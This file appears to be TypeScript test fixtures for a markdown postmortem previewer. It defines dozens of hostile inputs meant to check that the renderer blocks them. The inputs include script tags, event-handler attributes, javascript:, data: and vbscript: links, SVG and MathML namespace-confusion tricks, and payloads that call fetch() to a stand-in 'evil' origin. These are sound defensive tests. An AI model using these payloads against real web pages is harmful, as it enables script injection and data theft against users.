/**
 * Hostile postmortems for the preview: each case tries to run script (setting `window.__pwned`, calling
 * `alert`, logging "pwned"), to reach the network (at `evil`, an origin that must never be contacted), or to
 * smuggle markup past the renderer. The unit test checks the rendered HTML; the browser test loads it.
 */

export interface HostileCase {
  name: string;
  markdown: string;
}

/** The JavaScript a payload would run if it ever ran. */
function payload(tag: string, evil: string): string {
  return `window.__pwned='${tag}';console.log('pwned ${tag}');alert('pwned ${tag}');fetch('${evil}/pwned/${tag}')`;
}

export function hostileCases(evil = 'http://127.0.0.1:9'): HostileCase[] {
  const js = (tag: string): string => payload(tag, evil);
  return [
    { name: 'script tag', markdown: `<script>${js('script')}</script>` },
    { name: 'script tag inline in a paragraph', markdown: `Text <script>${js('inline-script')}</script> more text.` },
    { name: 'img onerror', markdown: `<img src=x onerror="${js('img')}">` },
    { name: 'img onerror without quotes', markdown: `<IMG SRC=/ onerror=alert(String.fromCharCode(88,83,83))></img>` },
    { name: 'javascript link', markdown: `[click me](javascript:${encodeURIComponent(js('jslink'))})` },
    { name: 'mixed-case javascript link', markdown: '[click](JaVaScRiPt:alert(1))' },
    { name: 'entity-encoded javascript link', markdown: '[click](&#106;avascript:alert(1)) [tab](java&#x09;script:alert(1))' },
    { name: 'javascript link in a reference definition', markdown: '[ref link][r]\n\n[r]: javascript:alert(1)' },
    { name: 'data link', markdown: '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
    { name: 'vbscript link', markdown: '[vb](vbscript:msgbox(1))' },
    { name: 'link title breaking out of its attribute', markdown: '[t](https://example.invalid/ "a\\" onmouseover=\\"alert(1)")' },
    { name: 'iframe', markdown: `<iframe src="${evil}/frame"></iframe>` },
    { name: 'iframe srcdoc', markdown: `<iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>` },
    { name: 'style escape', markdown: `<style></style><script>${js('style-escape')}</script></style>` },
    { name: 'style with a remote url', markdown: `<style>body { background: url(${evil}/style.png) }</style>` },
    { name: 'svg with script', markdown: `<svg><script>${js('svg-script')}</script></svg>` },
    { name: 'svg onload', markdown: `<svg onload="${js('svg-onload')}"><circle r="5"/></svg>` },
    {
      name: 'math and svg namespace confusion',
      markdown: `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=${'alert(1)'}>"></path></textarea></mtext></svg></mglyph></mi></math>`,
    },
    { name: 'entities that decode to tags', markdown: `&lt;script&gt;${js('entity')}&lt;/script&gt;` },
    { name: 'raw remote link', markdown: `<a href="${evil}/raw-link">raw link</a>` },
    { name: 'markdown remote link', markdown: `[remote](${evil}/md-link)` },
    { name: 'remote image', markdown: `![remote image](${evil}/image.png)` },
    { name: 'protocol-relative image', markdown: `![relative](${evil.replace(/^https?:/, '')}/relative.png)` },
    { name: 'reference image', markdown: `![ref image][img]\n\n[img]: ${evil}/ref-image.png` },
    { name: 'data image', markdown: '![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)' },
    { name: 'autolinks', markdown: `<javascript:alert(1)> <${evil}/autolink> <mailto:oncall@example.invalid> <data:text/html,x>` },
    { name: 'object and embed', markdown: `<object data="${evil}/object"></object><embed src="${evil}/embed">` },
    { name: 'meta refresh and base', markdown: `<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="${evil}/">` },
    { name: 'form', markdown: `<form action="${evil}/form"><button formaction="javascript:alert(1)">go</button></form>` },
    { name: 'details ontoggle', markdown: `<details open ontoggle="${js('toggle')}"><summary>x</summary></details>` },
    { name: 'html comment and CDATA', markdown: `<!-- --><script>${js('comment')}</script> <![CDATA[<script>${js('cdata')}</script>]]>` },
    { name: 'code fence language breaking out of its class', markdown: '```js" onload="alert(1)\nconsole.log(1)\n```' },
    { name: 'code span with markup', markdown: '`<script>alert(1)</script>`' },
    { name: 'link and script split over lines', markdown: `<scr\nipt>${js('split')}</scr\nipt>` },
  ];
}

/**
 * One postmortem holding every case, with a summary and timeline so the chart is drawn too, and with
 * hostile text in timeline entries (which ends up in the chart's `<title>` tooltips).
 */
export function hostileDocument(evil = 'http://127.0.0.1:9'): string {
  const cases = hostileCases(evil);
  return [
    '# Postmortem: hostile input',
    '',
    '## Summary',
    '',
    '- Start: 2025-01-01 10:00 UTC',
    '- End: 2025-01-01 12:30 UTC',
    '',
    '## Timeline (all times UTC)',
    '',
    `- 10:00 UTC: Alert fired </title><script>${payload('title', evil)}</script> <img src=x onerror="${payload('title-img', evil)}">`,
    `- 10:05 UTC: Paged on-call ]]></title></svg><svg onload="${payload('svg-title', evil)}">`,
    '- 10:20 UTC: Rolled back the release &lt;script&gt;',
    '- 12:30 UTC: Service restored, incident resolved [x](javascript:alert(1))',
    '',
    '## Root Cause',
    '',
    ...cases.flatMap((hostile) => [`### ${hostile.name}`, '', hostile.markdown, '']),
  ].join('\n');
}
